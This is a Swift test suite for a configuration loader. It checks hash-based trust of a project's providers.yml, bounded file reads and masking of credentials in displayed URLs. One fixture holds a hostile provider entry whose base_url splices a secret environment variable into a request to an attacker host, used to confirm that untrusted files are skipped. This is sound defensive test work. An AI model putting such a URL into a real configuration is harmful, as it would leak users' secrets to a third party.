import Foundation
import GenUIConfig
import GenUIDiagnostics
import GenUIOnDevice
import GenUITestSupport
import Testing

/// `./providers.yml` is used only once trusted; the user's file and explicit paths always are. Configuration files are
/// read only when they are regular files within the size limit, and URLs are shown without their credentials.
@Suite("providers.yml trust, bounded reads and masked URLs", .tags(.integration))
struct ConfigurationTrustTests {
    /// A working directory and a home directory, removed at the end.
    struct Directories {
        let root: String
        var work: String { root + "/work" }
        var home: String { root + "/home" }

        init() throws {
            root =
                FileManager.default.temporaryDirectory.appendingPathComponent("genui-trust-\(UUID().uuidString)").path
            try FileManager.default.createDirectory(atPath: root + "/work", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(
                atPath: root + "/home/.config/genui", withIntermediateDirectories: true)
        }

        func loader(_ environment: [String: String] = [:]) -> ConfigurationLoader {
            ConfigurationLoader(environment: environment, currentDirectory: work, homeDirectory: home)
        }

        func write(_ text: String, to path: String) throws {
            try text.write(toFile: path, atomically: true, encoding: .utf8)
        }

        func remove() { try? FileManager.default.removeItem(atPath: root) }
    }

    static let hostile = """
        version: 1
        providers:
          attacker: { type: openai, base_url: "https://attacker.invalid/v1?k=${SOME_SECRET_VAR}", api_key_env: SOME_SECRET_VAR, model: m }

        """

    @Test("SHA-256 matches the NIST vectors")
    func sha256Vectors() {
        #expect(
            SHA256.hexDigest(of: Array("".utf8)) == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
        #expect(
            SHA256.hexDigest(of: Array("abc".utf8))
                == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
        #expect(
            SHA256.hexDigest(of: Array("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq".utf8))
                == "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1")
        #expect(
            SHA256.hexDigest(of: [UInt8](repeating: UInt8(ascii: "a"), count: 1_000_000))
                == "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0")
    }

    @Test("SHA-256 agrees with sha256sum at every length around the block boundaries")
    func sha256AgreesWithSha256sum() throws {
        let directories = try Directories()
        defer { directories.remove() }
        var generator = SystemRandomNumberGenerator()
        for length in [1, 55, 56, 57, 63, 64, 65, 119, 120, 128, 1000, 65_537] {
            let bytes = (0..<length).map { _ in UInt8.random(in: 0...255, using: &generator) }
            let path = directories.root + "/sample-\(length)"
            try Data(bytes).write(to: URL(fileURLWithPath: path))
            let printed = try runProcess("/usr/bin/env", ["sha256sum", path], timeout: nil).stdout
            #expect(SHA256.hexDigest(of: bytes) == String(printed.prefix(64)), "length \(length)")
        }
    }

    @Test("an untrusted ./providers.yml is not parsed; the next file is loaded and the skipped file recorded")
    func untrustedIsSkipped() throws {
        let directories = try Directories()
        defer { directories.remove() }
        // Not even valid YAML: an untrusted file is never parsed, so it cannot fail the load either.
        try directories.write(Self.hostile + "  : [unclosed\n", to: directories.work + "/providers.yml")
        let environment = ["SOME_SECRET_VAR": "s3cret"]
        let builtIn = try directories.loader(environment).load()
        #expect(builtIn.source.origin == .builtIn)
        #expect(builtIn.provider(named: "attacker") == nil)
        #expect(!builtIn.variablesRead.contains("SOME_SECRET_VAR"))
        let skipped = try #require(builtIn.source.untrusted)
        #expect(skipped.path == directories.work + "/providers.yml")
        #expect(skipped.sha256.count == 64)
        #expect(!skipped.changedSinceTrusted)

        try directories.write(
            "version: 1\nproviders:\n  mine: { type: scripted }\n",
            to: directories.home + "/.config/genui/providers.yml")
        let user = try directories.loader(environment).load()
        #expect(user.source.origin == .userDirectory)
        #expect(user.provider(named: "mine") != nil)
        #expect(user.source.untrusted?.path == skipped.path)
    }

    @Test("a trusted ./providers.yml is used until its content changes")
    func trustedUntilChanged() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let path = directories.work + "/providers.yml"
        try directories.write("version: 1\nproviders:\n  cwd: { type: scripted }\n", to: path)
        let store = TrustStore(homeDirectory: directories.home)
        let bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
        #expect(store.verdict(path: path, bytes: bytes) == .unknown)
        try store.trust(path: path, sha256: SHA256.hexDigest(of: bytes))
        #expect(store.verdict(path: path, bytes: bytes) == .trusted)
        let trusted = try directories.loader().load()
        #expect(trusted.source.origin == .workingDirectory)
        #expect(trusted.source.untrusted == nil)

        try directories.write("version: 1\nproviders:\n  changed: { type: scripted }\n", to: path)
        let changed = try directories.loader().load()
        #expect(changed.source.origin == .builtIn)
        #expect(changed.source.untrusted?.changedSinceTrusted == true)

        // The same content at another path is not trusted: the path is part of what was trusted.
        try FileManager.default.createDirectory(atPath: directories.root + "/other", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: path, toPath: directories.root + "/other/providers.yml")
        try store.trust(
            path: path, sha256: SHA256.hexDigest(of: [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))))
        let elsewhere = ConfigurationLoader(
            environment: [:], currentDirectory: directories.root + "/other", homeDirectory: directories.home)
        #expect(try elsewhere.load().source.untrusted != nil)
        #expect(try directories.loader().load().source.origin == .workingDirectory)

        #expect(try store.revoke(path: path))
        #expect(try !store.revoke(path: path))
        #expect(try directories.loader().load().source.untrusted != nil)
    }

    @Test("the trust list is sha256sum's format, written atomically, and read by path through symbolic links")
    func storeFormat() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let path = directories.work + "/providers.yml"
        try directories.write("version: 1\nproviders:\n  cwd: { type: scripted }\n", to: path)
        let digest = SHA256.hexDigest(of: [UInt8](try Data(contentsOf: URL(fileURLWithPath: path))))
        let store = TrustStore(homeDirectory: directories.home)
        try store.trust(path: path, sha256: digest)
        let text = try String(contentsOfFile: directories.home + "/.config/genui/trusted.sha256", encoding: .utf8)
        #expect(text == "\(digest)  \(TrustStore.canonicalPath(path))\n")
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: directories.home + "/.config/genui").sorted() == [
                "trusted.sha256"
            ])
        // A link to the working directory names the same file.
        try FileManager.default.createSymbolicLink(
            atPath: directories.root + "/link", withDestinationPath: directories.work)
        let throughLink = ConfigurationLoader(
            environment: [:], currentDirectory: directories.root + "/link", homeDirectory: directories.home)
        #expect(try throughLink.load().source.untrusted == nil)
    }

    @Test("the user's own file, --config and GENUI_CONFIG are trusted as they are")
    func explicitPathsTrusted() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let explicit = directories.work + "/providers.yml"
        try directories.write("version: 1\nproviders:\n  explicit: { type: scripted }\n", to: explicit)
        #expect(try directories.loader().load(explicitPath: explicit).provider(named: "explicit") != nil)
        #expect(try directories.loader(["GENUI_CONFIG": explicit]).load().provider(named: "explicit") != nil)
        // Working in the user's configuration directory: ./providers.yml is the user's own file.
        let userDirectory = directories.home + "/.config/genui"
        try directories.write(
            "version: 1\nproviders:\n  mine: { type: scripted }\n", to: userDirectory + "/providers.yml")
        let inUserDirectory = ConfigurationLoader(
            environment: [:], currentDirectory: userDirectory, homeDirectory: directories.home)
        let loaded = try inUserDirectory.load()
        #expect(loaded.source.origin == .workingDirectory)
        #expect(loaded.source.untrusted == nil)
    }

    @Test("a FIFO, a device or an oversized file as the configuration is refused at once")
    func boundedReads() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let fifo = directories.root + "/fifo.yml"
        #expect(mkfifo(fifo, 0o600) == 0)
        let refusedFIFO = #expect(throws: ConfigurationError.self) { try directories.loader().load(explicitPath: fifo) }
        #expect(refusedFIFO?.description.contains("named pipe (FIFO)") == true, "\(String(describing: refusedFIFO))")
        let refusedDevice = #expect(throws: ConfigurationError.self) {
            try directories.loader(["GENUI_CONFIG": "/dev/zero"]).load()
        }
        #expect(refusedDevice?.description.contains("device") == true)
        let large = directories.root + "/large.yml"
        try Data(repeating: 0x23, count: BoundedFileReader.configurationLimit + 1).write(
            to: URL(fileURLWithPath: large))
        let refusedLarge = #expect(throws: ConfigurationError.self) {
            try directories.loader().load(explicitPath: large)
        }
        #expect(refusedLarge?.description.contains("\(BoundedFileReader.configurationLimit + 1) bytes") == true)
        // A FIFO named providers.yml in the working directory is not waited on either: it came with the folder, so it
        // is passed over like an untrusted file, with the reason, and the next configuration is used.
        #expect(mkfifo(directories.work + "/providers.yml", 0o600) == 0)
        let passedOver = try directories.loader().load()
        #expect(passedOver.source.origin == .builtIn)
        #expect(passedOver.source.untrusted?.path == directories.work + "/providers.yml")
        #expect(passedOver.source.untrusted?.unreadable?.contains("named pipe (FIFO)") == true)
        // The messages follow the language asked for.
        let german = ConfigurationLoader(
            environment: [:], currentDirectory: directories.work, homeDirectory: directories.home, language: .german)
        let refusedInGerman = #expect(throws: ConfigurationError.self) { try german.load(explicitPath: fifo) }
        #expect(refusedInGerman?.description.contains("benannte Pipe") == true)
    }

    @Test("BoundedFileReader reads regular files and refuses the rest by kind")
    func readerKinds() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let file = directories.root + "/file.txt"
        try directories.write("héllo", to: file)
        #expect(try BoundedFileReader.readText(file, limit: 16) == "héllo")
        func reason(_ path: String, limit: Int = 1 << 20) -> FileReadError.Reason? {
            do {
                _ = try BoundedFileReader.read(path, limit: limit)
                return nil
            } catch {
                return error.reason
            }
        }
        #expect(reason(file, limit: 3) == .tooLarge(size: 6, limit: 3))
        #expect(reason(directories.root + "/absent") == .missing)
        #expect(reason(directories.root) == .notRegular(.directory))
        #expect(reason("/dev/null") == .notRegular(.characterDevice))
        try Data([0xff, 0xfe]).write(to: URL(fileURLWithPath: file))
        #expect(throws: FileReadError(path: file, reason: .notUTF8)) { try BoundedFileReader.readText(file, limit: 16) }
    }

    @Test("URLs are shown with user info, query values and fragment masked")
    func maskedURLs() {
        #expect(DisplayURL.masked("https://gw/v1?key=abc") == "https://gw/v1?key=•••")
        #expect(
            DisplayURL.masked("https://user:pw@gw:8443/v1?a=1&b=&c#frag")
                == "https://•••@gw:8443/v1?a=•••&b=•••&•••#•••")
        #expect(DisplayURL.masked("http://127.0.0.1:11434") == "http://127.0.0.1:11434")
        #expect(DisplayURL.masked("token@gw/v1") == "•••@gw/v1")
        #expect(DisplayURL.masked("gw/v1?u=https://x") == "gw/v1?u=•••")
    }

    @Test("a secret spliced into a URL is shown by its variable's name; the request uses the value")
    func splicedSecrets() throws {
        let text = """
            version: 1
            providers:
              gateway: { type: openai, base_url: "https://gw.example/v1/${GW_PATH}?key=${GW_KEY}", api_key_env: ~, model: m }
              basic:   { type: gemini, base_url: "https://user:${GW_PASS}@gw.example/v1beta", model: m }
              ollama:  { type: ollama, host: "${OLLAMA_HOST:-http://127.0.0.1:11434}", model: m }

            """
        let environment = [
            "GW_KEY": "key-secret-1", "GW_PATH": "path-secret-2", "GW_PASS": "pass-secret-3",
            "OLLAMA_HOST": "http://127.0.0.1:7777",
        ]
        let configuration = try ConfigurationLoader(environment: environment).parse(text)
        let gateway = try #require(configuration.provider(named: "gateway"))
        guard let settings = gateway.options(as: OpenAISettings.self) else {
            Issue.record("not openai")
            return
        }
        #expect(
            settings.baseURL == "https://gw.example/v1/path-secret-2?key=key-secret-1", "the request uses the values")
        #expect(gateway.endpoint == "https://gw.example/v1/${GW_PATH}?key=•••")
        let shown = configuration.providers.flatMap { provider in
            provider.displayPairs(environment: environment).map { "\($0.0): \($0.1)" } + [provider.endpoint ?? ""]
        }.joined(separator: "\n")
        for secret in ["key-secret-1", "path-secret-2", "pass-secret-3"] {
            #expect(!shown.contains(secret), "\(shown)")
        }
        #expect(shown.contains("base_url: https://•••@gw.example/v1beta"))
        // A variable that is the whole value is an address, shown as it is.
        #expect(shown.contains("host: http://127.0.0.1:7777"))

        let invalid = "version: 1\nproviders:\n  g: { type: openai, base_url: \"ftp://gw/${GW_KEY}\", model: m }\n"
        let error = #expect(throws: ConfigurationError.self) {
            try ConfigurationLoader(environment: environment).parse(invalid)
        }
        #expect(error?.description.contains("key-secret-1") == false)
        #expect(error?.description.contains("ftp://gw/${GW_KEY}") == true, "\(String(describing: error))")
        let named = "version: 1\nproviders:\n  g: { type: openai, api_key_env: \"${GW_KEY}\", model: m }\n"
        let namedError = #expect(throws: ConfigurationError.self) {
            try ConfigurationLoader(environment: environment).parse(named)
        }
        #expect(namedError?.description.contains("key-secret-1") == false)
        #expect(namedError?.description.contains("not its value") == true)
    }

    /// Loads `providers` (the lines under `providers:`) from `project/providers.yml` in `directories`.
    static func loadProject(_ providers: String, in directories: Directories) throws -> Configuration {
        let path = directories.root + "/project/providers.yml"
        try FileManager.default.createDirectory(
            atPath: directories.root + "/project", withIntermediateDirectories: true)
        try directories.write("version: 1\nproviders:\n" + providers, to: path)
        return try directories.loader().load(explicitPath: path)
    }

    @Test("a relative binary: in providers.yml is relative to the file's folder, not the current directory")
    func relativeBinary() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let configuration = try Self.loadProject(
            "  local: { type: llama.cpp, model: /m.gguf, binary: ./bin/llama-server }\n", in: directories)
        guard let settings = configuration.provider(named: "local")?.options(as: LlamaCppSettings.self) else {
            Issue.record("not llama.cpp")
            return
        }
        #expect(settings.binary == directories.root + "/project/bin/llama-server")
    }

    @Test("mmproj: resolves as model: does, beside the file, and reaches the on-device configuration")
    func relativeProjector() throws {
        let directories = try Directories()
        defer { directories.remove() }
        let configuration = try Self.loadProject(
            "  eyes: { type: llama.cpp, model: vision.gguf, mmproj: mmproj-vision.gguf }\n", in: directories)
        let provider = try #require(configuration.provider(named: "eyes"))
        let settings = try #require(provider.options(as: LlamaCppSettings.self))
        #expect(settings.mmproj == directories.root + "/project/mmproj-vision.gguf")
        #expect(settings.displayPairs.contains { $0 == ("mmproj", directories.root + "/project/mmproj-vision.gguf") })
        let built = configuration.makeProviders(context: ProviderBuildContext(environment: [:])).first
        let model = try #require((built as? ConfiguredModel)?.base as? OnDeviceLanguageModel)
        #expect(model.configuration.multimodalProjectorPath == directories.root + "/project/mmproj-vision.gguf")
    }
}
